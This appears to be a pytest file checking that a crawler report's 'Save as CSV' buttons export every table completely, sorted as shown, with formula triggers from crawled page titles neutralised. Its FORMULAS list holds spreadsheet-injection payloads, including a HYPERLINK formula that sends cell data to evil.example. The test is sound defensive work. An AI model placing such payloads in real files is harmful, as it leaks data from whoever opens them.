"""Tables of a report as CSV files: complete, sorted as shown, and no formula of a crawled page."""

from __future__ import annotations

import csv
import io
import time
from collections import deque
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest

from dedupcrawl.tools.report.html_report import render_report
from tests.browser import browsing
from tests.tools.report.sample_reports import demo_report

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.browser import Tab

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " \r\n=1+1",
    "＝1+1",
    "－1",
)
BURST = 10  #: downloads of a page within one second; Chromium ignores further ones
_LATEST = deque[float](maxlen=BURST)  #: times of the latest downloads
TEXTS = ('He said "no", and left', "one\ntwo\r\nthree", "a;=1+1", "'quoted", "中文，标题", "5 - 3 = 2", "")


@pytest.fixture(scope="module")
def tab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tab]:
    file = tmp_path_factory.mktemp("csv") / "report.html"
    report = demo_report()
    titles = [*FORMULAS, *TEXTS]
    pages = [replace(page, title=titles[at]) if at < len(titles) else page for at, page in enumerate(report.pages)]
    settings = {**report.settings, "DEDUP_LOG": "=1+1"}
    file.write_text(render_report(replace(report, pages=tuple(pages), settings=settings)), "utf-8")
    with browsing() as opened:
        opened.open(file)
        opened.page.wait_for_selector("[data-ready]", state="attached")
        yield opened
        assert (opened.errors, opened.requests) == ([], [])


def saved(tab: Tab, within: str) -> tuple[str, list[list[str]]]:
    """Press the button in the elements ``within``; return the name of the file and its rows."""
    if len(_LATEST) == BURST and time.monotonic() - _LATEST[0] < 1.5:
        time.sleep(1.5)
    _LATEST.append(time.monotonic())
    with tab.page.expect_download() as download:
        tab.page.locator(within).get_by_role("button", name="Save as CSV").click()
    text = download.value.path().read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    return download.value.suggested_filename, [*csv.reader(io.StringIO(text[1:], newline=""), strict=True)]


def column(rows: list[list[str]], name: str) -> list[str]:
    return [row[rows[0].index(name)] for row in rows[1:]]


def test_all_pages_are_saved_with_what_is_known_of_them(tab: Tab) -> None:
    name, rows = saved(tab, "#page-table")
    pages = demo_report().pages
    assert name == "dedupcrawl-pages.csv"
    assert {len(row) for row in rows} == {14}
    assert column(rows, "URL") == [page.url for page in pages]
    assert column(rows, "Bytes") == [str(page.bytes) for page in pages]
    assert [float(each or 0) for each in column(rows, "Similarity")] == [
        round(page.similarity or 0, 4) for page in pages
    ]
    assert column(rows, "Why") == [page.why for page in pages]


def test_a_spreadsheet_runs_no_formula_of_a_page(tab: Tab) -> None:
    titles = column(saved(tab, "#page-table")[1], "Title")
    assert titles[: len(FORMULAS)] == [f"'{each}" for each in FORMULAS]
    assert titles[len(FORMULAS) : len(FORMULAS) + len(TEXTS)] == [*TEXTS]
    assert ["DEDUP_LOG", "'=1+1"] in saved(tab, "#settings")[1]


def test_rows_are_filtered_and_sorted_as_shown(tab: Tab) -> None:
    tab.page.get_by_label("Verdict", exact=True).select_option("dropped")
    tab.page.get_by_role("button", name="Size").click()
    rows = saved(tab, "#page-table")[1]
    sizes = [int(each) for each in column(rows, "Bytes")]
    assert sizes == sorted((page.bytes for page in demo_report().pages if page.outcome == "dropped"), reverse=True)
    shown = tab.page.locator("#page-table tbody tr .url a").evaluate_all("all => all.map((each) => each.href)")
    assert column(rows, "URL")[: len(shown)] == shown
    tab.page.get_by_label("Verdict", exact=True).select_option("")


def numbers(row: list[str]) -> list[Any]:
    return [int(each) for each in row[1:]]


def test_every_other_table_can_be_saved(tab: Tab) -> None:
    report = demo_report()
    hosts = saved(tab, "#hosts .columns > .card:first-child")[1]
    assert [(row[0], *numbers(row)) for row in hosts[1:]] == [
        (each.name, each.pages, each.kept, each.dropped) for each in report.hosts
    ]
    matrix = saved(tab, "#hosts .columns > .card:last-child")[1]
    assert int(matrix[-1][-1]) == sum(flow.pages for flow in report.flows)
    results = saved(tab, "#overview")[1]
    assert sum(int(row[1]) for row in results[1:]) == report.figures.pages
    tab.page.locator("#time summary").click()
    times = saved(tab, "#time")[1]
    assert [numbers(row) for row in times[1:]] == [[each.kept, each.dropped, each.unchecked] for each in report.slices]
    detectors = saved(tab, "#similarity .card:has(#detectors-title)")[1]
    assert {row[0]: int(row[1]) for row in detectors[1:]} == report.detectors
    tab.page.locator("#similarity figure summary").first.click()
    first = report.histograms[0]
    histogram = saved(tab, "#similarity figure:nth-of-type(1)")[1]
    assert [sum(each) for each in zip(*map(numbers, histogram[1:]), strict=True)] == [
        sum(first.matched),
        sum(first.missed),
    ]
    misses = saved(tab, "#miss-list")[1]
    assert column(misses, "URL of this page") == [report.pairs[at].new for at in report.misses]
    tab.page.locator(".cluster summary").first.click()
    cluster = saved(tab, ".cluster[open]")[1]
    assert column(cluster, "URL") == [report.pages[at].url for at in report.clusters[0].pages]
    tables = tab.page.locator("main table").count()
    assert tab.page.get_by_role("button", name="Save as CSV").count() == tables - len(report.histograms) + 1
